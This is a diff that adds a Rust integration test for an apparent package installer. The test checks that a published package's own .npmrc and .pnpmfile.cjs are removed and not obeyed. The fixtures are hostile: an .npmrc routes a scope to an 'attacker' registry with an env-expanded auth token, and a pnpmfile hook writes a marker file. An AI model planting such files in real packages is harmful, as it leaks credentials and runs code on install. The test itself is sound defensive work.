@@ -131,3 +131,73 @@ async fn a_dependency_that_does_not_exist_is_named() {
         "{err}"
     );
 }
+
+/// A published package is untrusted: its own `.npmrc` (a scope sent elsewhere, with an `${ENV}` token
+/// pnpm would expand) and `.pnpmfile.cjs` (a hook run outside any sandbox) are not obeyed.
+#[tokio::test]
+async fn a_package_s_own_package_manager_files_are_not_obeyed() {
+    let npm = LoopbackNpm::start().await;
+    let attacker = LoopbackNpm::start().await;
+    let work = tempfile::tempdir().unwrap();
+    let marker = work.path().join("pnpmfile-ran");
+    let dep = json!({ "name": "@evil/dep", "version": "1.0.0", "main": "index.js" });
+    publish(&npm, dep.clone(), &[("index.js", "module.exports = 1;")]);
+    publish(&attacker, dep, &[("index.js", "module.exports = 2;")]);
+    let host = attacker.url.trim_start_matches("http:");
+    let npmrc = format!(
+        "@evil:registry={}\n{host}:_authToken=${{HOME}}\n",
+        attacker.url
+    );
+    let pnpmfile = format!(
+        "require('fs').writeFileSync({:?}, 'x');\nmodule.exports = {{ hooks: {{}} }};\n",
+        marker.display().to_string()
+    );
+    publish(
+        &npm,
+        json!({ "name": "@acme/plugin-rc", "version": "1.0.0", "main": "index.js",
+                "dependencies": { "@evil/dep": "1.0.0" } }),
+        &[
+            ("index.js", "export default {}"),
+            (".npmrc", &npmrc),
+            (".pnpmfile.cjs", &pnpmfile),
+            ("pnpm-workspace.yaml", "packages: []\n"),
+        ],
+    );
+    let installer = installer(work.path().join("store"), &npm.url)
+        .await
+        .with_npmrc(format!("registry={}\n", npm.url));
+    let debug = format!("{installer:?}");
+    assert!(
+        debug.contains("<redacted>") && !debug.contains("registry="),
+        "{debug}"
+    );
+    let fetched = fetch_from_npm(
+        &NpmClient::new(&npm.url),
+        "@acme/plugin-rc",
+        None,
+        None,
+        &work.path().join("pkg"),
+        &ExtractLimits::default(),
+    )
+    .await
+    .unwrap();
+    assert!(fetched.dir.join(".npmrc").exists());
+    let report = installer.install(&fetched.dir).await.unwrap();
+    assert_eq!(
+        report.removed_config,
+        [".npmrc", ".pnpmfile.cjs", "pnpm-workspace.yaml"]
+    );
+    assert!(
+        attacker.paths().is_empty(),
+        "the package's .npmrc was obeyed: {:?}",
+        attacker.paths()
+    );
+    assert!(!marker.exists(), "the package's .pnpmfile.cjs ran");
+    assert!(!fetched.dir.join(".npmrc").exists());
+    let code =
+        std::fs::read_to_string(fetched.dir.join("node_modules/@evil/dep/index.js")).unwrap();
+    assert!(code.contains("= 1"), "{code}");
+    // The store is pruned with the same cleared environment.
+    installer.prune().await.unwrap();
+    assert!(fetched.dir.join("node_modules/@evil/dep/index.js").exists());
+}
